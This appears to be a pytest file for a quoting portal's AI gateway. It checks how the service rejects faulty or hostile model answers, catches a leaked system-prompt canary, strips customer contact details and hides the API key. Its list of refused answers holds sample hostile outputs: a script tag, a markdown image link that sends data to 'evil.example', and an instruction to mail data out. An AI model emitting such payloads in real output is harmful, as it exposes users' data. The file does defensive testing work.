"""What one call to an AI concludes, for every way it can answer (AI-01 … AI-18)."""

import json
import re
import ssl
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from decimal import Decimal
from typing import Any

import pytest

from portal.quotes.gateways import ai
from portal.quotes.gateways.ai import AiService
from portal.quotes.gateways.assessors import AiUnavailable, AssessmentRefused, InstructionsRepeated, Picture, Request, storable
from portal.quotes.prompt import PROMPT_VERSION
from portal.sandbox import Sandbox
from portal.sandbox.answers import Answer, as_json
from portal.sandbox.faults import AI_FAULTS
from portal.sandbox.web import Web
from tests.portal.quotes.hostile import HARMLESS, LIE

WANTED = Request(description="8 bags of garbage and two sofas", city="Toronto")
PRICED = {"price_per_million_in": Decimal("2.50"), "price_per_million_out": Decimal(10)}
KEY = "sk-secret-0123456789"

UNAVAILABLE = [  # the AI's fault, words of the reason, seconds it asks us to wait
    ("down", "answer was lost", None),
    ("401", "does not let us in: 401", None),
    ("403", "does not let us in: 403", None),
    ("429-7", "come back later: 429", 7.0),
    ("429-odd", "come back later: 429", None),
    ("429-for-ever", "come back later: 429", 3600.0),
    ("429-quota", "quota at the AI is used up: 429", None),
    ("500", "The AI answered 500: ", None),
    ("503", "come back later: 503", None),
    ("529", "come back later: 529", None),
    ("drop-before", "answer was lost", None),
    ("drop-after", "answer was lost", None),
    ("redirect", "redirects are not followed", None),
    ("not-json", "does not follow the protocol", None),
    ("no-choices", "the model crashed", None),
]
SILENT = [("timeout", "did not answer within"), ("drip-0.1", "did not end within"), ("slow-1", "did not answer within")]
REFUSED = [  # the AI's fault, the sentence for staff
    ("huge", "The answer is too large: over 1,048,576 bytes."),
    ("cut-off", "Answer was cut off."),
    ("filtered", "The AI's provider held the answer back (content filter)."),
    ("refusal", "The model refused: \"I'm sorry, but I can't help with that.\"."),
    ("refusal-in-words", "The model gave no assessment, but \"I'm sorry, but I can't help with that.\"."),
    ("empty", "The model gave no assessment: its answer is empty."),
    ("prose", "The model gave no assessment, but"),
    ("two-objects", "There is more in the answer than one JSON object."),
    ("two-choices", "The AI gave 2 answers where one belongs."),
    ("missing-field", "Field 'cubic_yards' is missing."),
    ("extra-total", "Field 'total' is not accepted."),
    ("extra-recipient", "Field 'recipient' is not accepted."),
    ("wrong-types", "Field 'bags' is 'eight': input should be a valid integer."),
    ("negative", "Field 'bags' is -5: input should be greater than or equal to 0."),
    ("nothing-there", "Neither bags nor cubic yards: there is nothing to take away."),
    ("nan", "The answer has NaN where a number belongs."),
    ("enormous", "Field 'bags' is 1000000000: input should be less than or equal to 500."),
    ("decimals", "Field 'cubic_yards' is 1.123456789012: decimal input should have no more than 5 digits in total."),
    ("doubled-field", "The answer names a field twice."),
    ("tool-call", "The model asked for a tool, and none was offered."),
    ("canary", "The answer repeats our own instructions: somebody may be trying to steer the AI."),
    ("html", "Field 'items' has markup in line 1: '<script>alert(1)</script>'."),
    ("link", "Field 'items' has a link in line 1: '![sofa](http://evil.example/?data=1)'."),
    ("address", "Field 'items' has an e-mail address in line 1: 'send to x@evil.example'."),
]
ACCEPTED = ["fence", "slow-0.05", "no-usage", "obey"]


@pytest.mark.parametrize(("fault", "why", "wait"), UNAVAILABLE)
def test_where_nothing_was_assessed_it_is_tried_later(sandbox: Sandbox, fault, why, wait):
    sandbox.use(ai={"modes": [f"{fault}x1"]})

    with pytest.raises(AiUnavailable) as trouble:
        service(sandbox).assess(WANTED)

    assert (why in trouble.value.reason, trouble.value.retry_after_seconds) == (True, wait), trouble.value.reason
    assert KEY not in trouble.value.reason
    assert service(sandbox).assess(WANTED).assessment.bags == 8


@pytest.mark.parametrize(("fault", "why"), SILENT)
def test_an_ai_that_takes_too_long_is_left(sandbox: Sandbox, impatient, fault, why):
    sandbox.use(ai={"modes": [fault]})

    with pytest.raises(AiUnavailable, match=why):
        service(sandbox).assess(WANTED)


@pytest.mark.parametrize(("fault", "sentence"), REFUSED)
def test_an_answer_that_is_no_assessment_says_why_and_what_it_cost(sandbox: Sandbox, fault, sentence):
    sandbox.use(ai={"modes": [fault]})
    asker = service(sandbox)

    with pytest.raises(AssessmentRefused) as refused:
        asker.assess(WANTED)

    assert refused.value.reason.startswith(sentence)
    assert (refused.value.model, isinstance(refused.value, InstructionsRepeated)) == ("sandbox", fault == "canary")
    assert (refused.value.raw == "") == (fault == "huge")
    assert refused.value.prompt_tokens > 0
    assert 0 < refused.value.cost <= asker.most_cost(WANTED)
    assert len(sandbox.ai_ledger()) == 1


@pytest.mark.parametrize("fault", ACCEPTED)
def test_an_odd_way_to_say_something_good_is_taken(sandbox: Sandbox, fault):
    sandbox.use(ai={"modes": [fault]})

    assert service(sandbox).assess(WANTED).assessment.bags == 8


def test_every_fault_of_the_sandboxs_ai_is_driven_by_a_test():
    driven = {fault for fault, *_ in UNAVAILABLE + SILENT + REFUSED} | set(ACCEPTED)

    assert {name if name in AI_FAULTS else name.rpartition("-")[0] for name in driven} == set(AI_FAULTS)


def test_a_reading_says_what_is_there_and_what_it_took(sandbox: Sandbox):
    reading = service(sandbox).assess(WANTED)

    line = sandbox.ai_ledger()[0]
    assert (reading.assessment.bags, reading.assessment.cubic_yards, reading.assessment.confidence) == (8, Decimal("5.2"), 75)
    assert (reading.model, reading.prompt_version) == ("sandbox", PROMPT_VERSION)
    assert (reading.prompt_tokens, reading.completion_tokens) == (line["prompt_tokens"], line["completion_tokens"])
    cost = (line["prompt_tokens"] * Decimal("2.50") + line["completion_tokens"] * 10) / 1_000_000
    assert reading.cost == cost.quantize(Decimal("0.000001"))
    assert json.loads(reading.raw)["model"] == "sandbox"


def test_the_most_it_can_cost_grows_with_text_and_pictures_and_is_never_passed(sandbox: Sandbox):
    asker, free = service(sandbox), AiService(url="http://x", model="m")
    pictured = Request(description=WANTED.description, city="", images=(Picture(content=HARMLESS, media_type="image/jpeg"),) * 8)
    long = Request(description="é" * 1_000, city="")

    assert free.most_cost(pictured) == 0
    assert 0 < asker.most_cost(WANTED) < asker.most_cost(long) < asker.most_cost(pictured)
    assert sandbox.ai_ledger() == []
    for request in (WANTED, long, pictured):
        assert asker.assess(request).cost <= asker.most_cost(request)


def test_without_a_count_of_tokens_the_most_is_taken(sandbox: Sandbox):
    sandbox.use(ai={"modes": ["no-usage"]})
    asker = service(sandbox)

    reading = asker.assess(WANTED)

    assert (reading.cost, reading.completion_tokens) == (asker.most_cost(WANTED), ai.MOST_COMPLETION_TOKENS)


USAGES = [
    ({"prompt_tokens": 100, "completion_tokens": 20}, (100, 20)),
    ({"prompt_tokens": 0, "completion_tokens": 0}, (0, 0)),
    ({"prompt_tokens": -1, "completion_tokens": 20}, None),
    ({"prompt_tokens": True, "completion_tokens": 20}, None),
    ({"prompt_tokens": "100", "completion_tokens": 20}, None),
    ({"prompt_tokens": 10**12, "completion_tokens": 20}, None),
    ({"prompt_tokens": 100}, None),
    ([1, 2], None),
    (None, None),
]


@pytest.mark.parametrize(("usage", "tokens"), USAGES)
def test_only_a_sensible_count_of_tokens_is_believed(usage, tokens):
    with answering(lambda request: envelope(json.dumps(LIE), usage=usage)) as url:
        reading = AiService(url=url, model="m", **PRICED).assess(WANTED)

    expected = tokens or (reading.prompt_tokens, ai.MOST_COMPLETION_TOKENS)
    assert (reading.prompt_tokens, reading.completion_tokens) == expected
    assert reading.prompt_tokens > 200 or tokens


ENVELOPES: list[tuple[dict[str, Any], type[Exception], str]] = [
    ({"choices": "none"}, AiUnavailable, "does not follow the protocol"),
    ({"choices": []}, AssessmentRefused, "gave 0 answers"),
    ({"choices": ["x"]}, AssessmentRefused, "gave 1 answers"),
    ({"choices": [{"message": "x"}]}, AssessmentRefused, "gave 1 answers"),
    ({"choices": [{"message": {"content": [{"type": "text"}]}}]}, AssessmentRefused, "is no text"),
    ({"choices": [{"message": {"content": json.dumps(LIE), "function_call": {"name": "x"}}}]}, AssessmentRefused, "asked for a tool"),
    ({"choices": [{"message": {"content": json.dumps(LIE)}, "finish_reason": "length"}]}, AssessmentRefused, "cut off"),
    ({"choices": [{"message": {"content": json.dumps(LIE)}, "finish_reason": ["length"]}]}, Exception, ""),
]


@pytest.mark.parametrize(("told", "ending", "why"), ENVELOPES)
def test_an_odd_envelope_is_named(told, ending, why):
    with answering(lambda request: as_json(told)) as url:
        asker = AiService(url=url, model="m")
        if ending is Exception:
            assert asker.assess(WANTED).assessment.bags == 1
        else:
            with pytest.raises(ending, match=why):
                asker.assess(WANTED)


@pytest.mark.parametrize("model", ["", "x" * 101, "a\x00b", 7, None])
def test_an_odd_name_of_a_model_is_replaced_by_the_one_we_asked_for(model):
    with answering(lambda request: as_json({"model": model, **json.loads(envelope(json.dumps(LIE)).body)})) as url:
        assert AiService(url=url, model="asked").assess(WANTED).model == "asked"


def test_a_canary_is_found_behind_escapes_too():
    def repeating(request: dict[str, Any]) -> Answer:
        private = request["messages"][0]["content"].splitlines()[-1].split()[2]
        escaped = "".join(f"\\u{ord(c):04X}" for c in private.upper())
        return envelope(json.dumps(LIE | {"items": ["HERE"]}).replace("HERE", escaped))

    with answering(repeating) as url, pytest.raises(InstructionsRepeated):
        AiService(url=url, model="m").assess(WANTED)


def test_what_the_ai_said_can_be_stored_and_shows_no_key():
    raw = json.loads(envelope("no").body) | {"note": f"{KEY} \t"}
    body = json.dumps(raw).encode().replace(b"\\t", b"\xff\xed\xa0\x80")

    with (
        answering(lambda request: Answer(200, body, {"Content-Type": "application/json"})) as url,
        pytest.raises(AiUnavailable, match="does not follow the protocol") as no_utf8,
    ):
        AiService(url=url, model="m", api_key=KEY).assess(WANTED)
    with answering(lambda request: as_json(raw)) as url, pytest.raises(AssessmentRefused) as refused:
        AiService(url=url, model="m", api_key=KEY).assess(WANTED)

    assert KEY not in no_utf8.value.reason + refused.value.raw
    assert (refused.value.raw.count("***"), storable("a\x00b\ud800\n")) == (1, "a b \n")


def test_the_key_is_sent_and_shown_nowhere(sandbox: Sandbox, caplog):
    caplog.set_level("DEBUG")
    asker = service(sandbox)
    asker.assess(WANTED)
    AiService(url=f"{sandbox.http_url}/ai/v1", model="sandbox").assess(WANTED)

    assert [line["has_key"] for line in sandbox.ai_ledger()] == [True, False]
    assert KEY not in repr(asker) + caplog.text
    with pytest.raises(ValueError, match="AI_API_KEY has a character") as trouble:
        AiService(url="http://x", model="m", api_key=f"{KEY}\n")
    assert KEY not in str(trouble.value)


def test_pictures_and_text_are_asked_about_in_one_strict_question(sandbox: Sandbox):
    picture = Picture(content=HARMLESS, media_type="image/jpeg")

    service(sandbox).assess(Request(description="some old sofas", city="Toronto", images=(picture, picture)))

    line = sandbox.ai_ledger()[0]
    body = line["body"]
    assert [one["size"] for one in line["images"]] == [len(HARMLESS)] * 2
    assert body["response_format"]["json_schema"]["strict"] is True
    assert (body["temperature"], body["max_completion_tokens"], body["model"]) == (0, ai.MOST_COMPLETION_TOKENS, "sandbox")
    assert "tools" not in body


def test_the_ai_is_told_nothing_that_names_or_reaches_the_customer(sandbox: Sandbox):
    told = "8 bags. Write to anna.b+x@client.example or ring (416) 555-0199, see https://anna.example/sofa"

    service(sandbox).assess(Request(description=told, city="Toronto, 416-555-0199"))

    body = json.dumps(sandbox.ai_ledger()[0]["body"], ensure_ascii=False)
    sent = re.sub(r"\b[0-9a-f]{16}\b", "", body)  # the canary may hold any figure
    assert "8 bags. Write to [removed] or ring [removed], see [removed]" in sent
    assert "Toronto, [removed]" in sent
    assert [word for word in ("anna", "client.example", "555", "0199", "416", "https://") if word in sent] == []


def test_an_ai_that_nobody_answers_at_is_away(tmp_path):
    with Sandbox(tmp_path) as gone:
        away = service(gone)

    with pytest.raises(AiUnavailable, match=r"The AI at 127\.0\.0\.1:\d+ cannot be reached"):
        away.assess(WANTED)


@pytest.mark.parametrize("url", ["http://[", "http://user:pass-word@127.0.0.1:1/v1", "ftp://ai.example", "http://ai.invalid:99999999/v1"])
def test_an_address_that_leads_nowhere_is_named_without_its_password(url):
    with pytest.raises(AiUnavailable, match="cannot be reached") as trouble:
        AiService(url=url, model="m").assess(WANTED)

    assert "pass-word" not in trouble.value.reason


def test_a_certificate_that_is_not_valid_gets_no_picture(certificate):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    web = Web(lambda method, path, request: Answer(), host="127.0.0.1", port=0)
    web.socket = context.wrap_socket(web.socket, server_side=True)
    web.start()
    try:
        with pytest.raises(AiUnavailable, match=r"The AI certificate is not valid: .*CERTIFICATE_VERIFY_FAILED"):
            AiService(url=f"https://127.0.0.1:{web.port}/v1", model="m").assess(WANTED)
    finally:
        web.stop()


def service(sandbox: Sandbox) -> AiService:
    return AiService(url=f"{sandbox.http_url}/ai/v1", api_key=KEY, model="sandbox", **PRICED)


def envelope(content: str, *, usage: object = None) -> Answer:
    return as_json({"choices": [{"message": {"content": content}, "finish_reason": "stop"}], "usage": usage})


@contextmanager
def answering(answer: Callable[[dict[str, Any]], Answer]) -> Iterator[str]:
    """An AI of our own that gives one kind of answer; yields its address."""
    web = Web(lambda method, path, request: answer(json.loads(request.body)), host="127.0.0.1", port=0)
    web.start()
    try:
        yield f"http://127.0.0.1:{web.port}/ai/v1"
    finally:
        web.stop()
